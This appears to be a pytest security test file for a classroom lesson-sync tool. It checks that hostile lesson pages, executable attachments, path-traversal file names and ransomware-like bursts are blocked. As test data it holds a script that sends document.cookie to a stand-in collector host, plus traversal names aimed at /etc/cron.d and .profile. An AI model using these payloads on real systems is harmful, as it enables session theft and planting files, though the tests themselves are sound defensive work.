"""What a hostile or infected lesson may try (docs/attacks.md)."""

from __future__ import annotations

import asyncio
from contextlib import AsyncExitStack

import pytest

from protocol.errors import RelaisError
from protocol.replica.content.holdings import Holdings, Need
from protocol.replica.content.kept.memory_packs import MemoryPacks
from protocol.replica.storage.memory import MemoryStore
from protocol.transfer.chunking import chunk_list, cut, stream_id
from protocol.transfer.manifest import MANIFEST_MAGIC, ManifestEntry, decode_manifest, encode_manifest
from sync_agent.coursework.rules import DENIED_EXTENSIONS, wanted_files
from sync_agent.watching.brake import Change, is_burst, is_scrambled
from tests.harness.attack import attack
from tests.harness.browser import chromium, visitor
from tests.harness.caller import in_sealed_form
from tests.harness.classroom import Classroom
from tests.harness.entries import SPACE
from tests.harness.portal import portal

LEADS_OUT = """<!doctype html><button id="b">Commencer</button><script>
document.getElementById("b").onclick = () => {
  window.open("http://127.0.0.1:PORT/popup?what-lea-typed");
  setTimeout(() => { location.href = "http://127.0.0.1:PORT/self?what-lea-typed"; }, 200);
};
</script>"""

HOSTILE = {"index.html": b"<script>fetch('https://collect.example/?' + document.cookie)</script>"}


@attack(
    "hostile lesson HTML",
    off={
        "sync_agent.portal.files.lessons._LOAD_FROM_HERE": "default-src *",
        "sync_agent.portal.files.lessons._ALLOWED": "allow-top-navigation",
    },
)
async def test_a_lesson_loads_from_nowhere_else_and_sends_nothing_anywhere(room: Classroom) -> None:
    teacher, pc = await room.teacher(), await room.machine()
    item = (await room.publish(teacher, HOSTILE)).item.hex()
    for device in (teacher, pc):
        await device.session.sync()
    async with portal(pc.agent) as surfer:
        answer = await surfer.lesson(item, "/index.html", Cookie="relais=secret")
    policy = dict(part.strip().partition(" ")[::2] for part in answer.headers["Content-Security-Policy"].split(";"))
    assert "*" not in policy["default-src"]
    assert "allow-top-navigation" not in policy["sandbox"]
    assert "Set-Cookie" not in answer.headers


@attack(
    "hostile lesson HTML",
    off={
        "sync_agent.portal.files.lessons._ALLOWED": "allow-scripts allow-same-origin allow-popups",
        "sync_agent.portal.files.lessons.Lessons._would_run_unframed": lambda *_: False,
    },
)
async def test_a_lesson_leads_nobody_who_clicks_in_it_out_of_the_machine(room: Classroom) -> None:
    asked: list[bytes] = []

    async def hear(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        if said := await reader.read(200):  # browsers connect ahead of what they are then not allowed to ask
            asked.append(said)
        writer.close()

    async with AsyncExitStack() as stack:
        elsewhere = await asyncio.start_server(hear, "127.0.0.1", 0)
        stack.callback(elsewhere.close)
        teacher, pc = await room.teacher(), await room.machine()
        page = LEADS_OUT.replace("PORT", str(elsewhere.sockets[0].getsockname()[1])).encode()
        item = (await room.publish(teacher, {"index.html": page})).item.hex()
        for device in (teacher, pc):
            await device.session.sync()
        surfer = await stack.enter_async_context(portal(pc.agent))
        somebody = await stack.enter_async_context(visitor(await stack.enter_async_context(chromium())))
        shown = await somebody.page()
        for opened_by in (None, ".lesson-bar a:not([href^='/print/'])", "iframe"):
            await shown.goto(f"{surfer.origin}/item/{item}")
            if opened_by is not None:
                address = await shown.locator(opened_by).evaluate("node => node.href || node.src")
                await shown.goto(str(address))
            framed = await shown.locator("iframe").count() > 0
            button = (shown.frame_locator("iframe") if framed else shown).locator("#b")
            async with shown.expect_event("framenavigated"):
                await button.click()
    assert asked == []


@attack(
    "malware spread by a teacher's infected laptop", off={"sync_agent.coursework.rules.DENIED_EXTENSIONS": frozenset()}
)
async def test_what_runs_at_a_double_click_is_not_copied_into_anybodys_folder() -> None:
    names = ["exercice.odt", "Lisez-moi.PDF.exe", "dictée.docm", "photos.lnk", "jeu.JS", "leçon.scpt"]
    copied = wanted_files([ManifestEntry(name, 1, bytes(32)) for name in sorted(names)])
    assert "exercice.odt" in copied
    assert not copied.keys() & set(names[1:])


def _by_its_own_name_alone(path: str) -> bool:
    return path.rpartition(".")[2].lower() in DENIED_EXTENSIONS


@attack(
    "malware spread by a teacher's infected laptop",
    off={"sync_agent.coursework.rules.is_denied": _by_its_own_name_alone},
)
async def test_nor_is_a_folder_that_a_system_opens_as_a_program() -> None:
    names = ["exercice.odt", "Jeu.app/Contents/MacOS/jeu", "Leçon.workflow/Contents/document.wflow", "É.SAVER/x/é"]
    copied = wanted_files([ManifestEntry(name, 1, bytes(32)) for name in sorted(names)])
    assert "exercice.odt" in copied
    assert not copied.keys() & set(names[1:])


HOSTILE_NAMES = ("../../evil.sh", "/etc/cron.d/evil", "notes/../../x", "aux.html", "cours.html:flux", "plan. ")


@attack(
    "mangling file names",
    off={
        "protocol.transfer.manifest.check_portable": lambda _paths: [],
        "protocol.transfer.manifest.portability_problems": lambda _paths, **_: iter(()),
    },
)
async def test_a_list_of_files_that_leads_out_of_its_folder_is_refused_by_who_writes_and_who_reads_it() -> None:
    with pytest.MonkeyPatch.context() as hostile_publisher:
        hostile_publisher.setattr("protocol.transfer.manifest.check_portable", lambda _paths: [])
        lists = [encode_manifest([ManifestEntry(name, 1, bytes(32))]) for name in HOSTILE_NAMES]
    for name, data in zip(HOSTILE_NAMES, lists, strict=True):
        with pytest.raises(RelaisError):
            encode_manifest([ManifestEntry(name, 1, bytes(32))])
        with pytest.raises(RelaisError):
            decode_manifest(data)


@attack("mangling file names", off={"protocol.replica.content.holdings._HERE": b"\x02"})
async def test_a_list_of_files_that_was_handed_in_as_sealed_work_leads_nobody_out_of_a_folder() -> None:
    """A sealed work is complete with nobody looking inside; what is complete is read without a look at its names."""
    # as large as the smallest sealed work
    sizes = [*[200] * 17, len(in_sealed_form(b"")[0]) - len(MANIFEST_MAGIC) - 17 * 238 - 38]
    names = [f"../../.profile{number:02}".encode().ljust(size, b"-") for number, size in enumerate(sizes)]
    rows = [len(name).to_bytes(2, "big") + bytes(4) + name + stream_id(()) for name in names]
    data = MANIFEST_MAGIC + b"".join(rows)
    store, content = MemoryStore(), MemoryPacks()
    build = await content.build(SPACE, unsent=False)
    for chunk in cut(data):
        await build.chunk(chunk)
    stream = await build.stream(chunk_list(cut(data)))
    await build.finish()
    assert await Holdings(store, content).is_complete(Need(SPACE, stream, sealed=True))
    restarted = Holdings(store, content)
    await restarted.load()
    with pytest.raises(RelaisError):
        await restarted.manifest(stream)


@attack("ransomware in a watched folder", off={"sync_agent.watching.brake.THRESHOLDS": ()})
async def test_a_burst_of_files_that_turn_to_noise_stops_publishing() -> None:
    before, after = b"PK\x03\x04 un devoir" + bytes(2000), bytes(range(256)) * 16
    changes = [Change.SCRAMBLED if is_scrambled(before, after) else Change.REWRITTEN for _ in range(25)]
    assert is_burst(changes, published_files=400)
